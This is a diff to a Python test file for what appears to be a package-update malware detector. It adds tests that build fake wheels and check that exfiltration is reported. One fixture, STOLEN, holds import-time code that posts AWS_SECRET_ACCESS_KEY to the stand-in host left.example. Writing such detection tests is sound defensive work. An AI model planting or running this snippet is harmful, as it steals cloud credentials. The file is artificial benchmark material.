@@ -10,7 +10,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from benchmarks import alone, updates
 from fimci.capabilities import gains
+from fimci.findings import Severity
 from tests.archives import Zipped, zip_of
 from tools.learn import packages, rates, read, reading, releases
 from tools.learn.choose import STEPS, chosen, newest, stable, step
@@ -101,14 +103,14 @@ def test_an_update_gains_what_the_whole_old_release_had_not_so_early() -> None:
     assert gained(old, taken(moved, later, new, again, earlier)) == [earlier, new]
 
 
-def wheel(folder: Path, version: str, code: bytes) -> Release:
+def wheel(folder: Path, version: str, code: bytes, use: str = "learning") -> Release:
     name = f"archives/left-{version}-py3-none-any.whl"
     file = folder / name
     file.parent.mkdir(exist_ok=True)
     file.write_bytes(zip_of(Zipped(b"left/__init__.py", code)))
     before = {"1.0.1": "1.0.0", "1.1.0": "1.0.1"}.get(version, "")
     return Release(
-        use="learning",
+        use=use,
         ecosystem="pypi",
         package="left",
         version=version,
@@ -169,3 +171,51 @@ def test_files_that_stayed_the_same_are_shown_to_readers_once(tmp_path: Path) ->
 def test_what_is_no_archive_is_told(tmp_path: Path) -> None:
     (tmp_path / "broken.whl").write_bytes(b"not an archive")
     assert "is not an archive" in reading.read(tmp_path, "broken.whl", Memory()).failed
+
+
+STOLEN = (
+    QUIET
+    + b"""
+
+def stolen():
+    import os
+
+    import requests
+
+    requests.post("https://left.example/", data={"key": os.environ["AWS_SECRET_ACCESS_KEY"]})
+
+
+stolen()
+"""
+)
+
+
+def test_what_is_said_of_updates_is_counted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    codes = {"1.0.0": QUIET, "1.0.1": QUIET, "1.1.0": STOLEN}
+    releases.append(tmp_path, [wheel(tmp_path, version, code, "held-out") for version, code in codes.items()])
+    assert updates.main([str(tmp_path), "--log", str(tmp_path / "log")]) == 0
+    rows = [line for line in capsys.readouterr().out.split("\n") if line.startswith("| ")]
+    assert "| patch | 1 | 0 | 0 | 0 (0.0%) | 0 (0.0%) |" in rows
+    assert "| minor | 1 | 0 | 0 | 1 (100.0%) | 1 (100.0%) |" in rows
+    assert any(row.startswith("| `exfiltration` | 1 | 1 |") for row in rows)
+    assert "exfiltration" in (tmp_path / "log").read_text()
+
+
+def test_an_update_that_cannot_be_judged_is_a_crash_and_no_end(tmp_path: Path) -> None:
+    old, new = (wheel(tmp_path, version, QUIET, "held-out") for version in ("1.0.0", "1.0.1"))
+    (tmp_path / new.file).write_bytes(b"not an archive")
+    judged = updates.judge(releases.Pair(old, new), tmp_path)
+    assert judged.report is None
+    assert "is not an archive" in judged.fault
+    assert not judged.at(Severity.INFO)
+
+
+def test_what_is_said_of_releases_alone_is_counted(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    releases.append(
+        tmp_path, [wheel(tmp_path, "1.0.0", STOLEN, "newest"), wheel(tmp_path, "1.0.1", QUIET, "newest")]
+    )
+    assert alone.main([str(tmp_path), "--log", str(tmp_path / "log")]) == 0
+    assert "| all | 2 | 1 | 1 |" in capsys.readouterr().out
+    assert "left 1.0.0" in (tmp_path / "log").read_text()
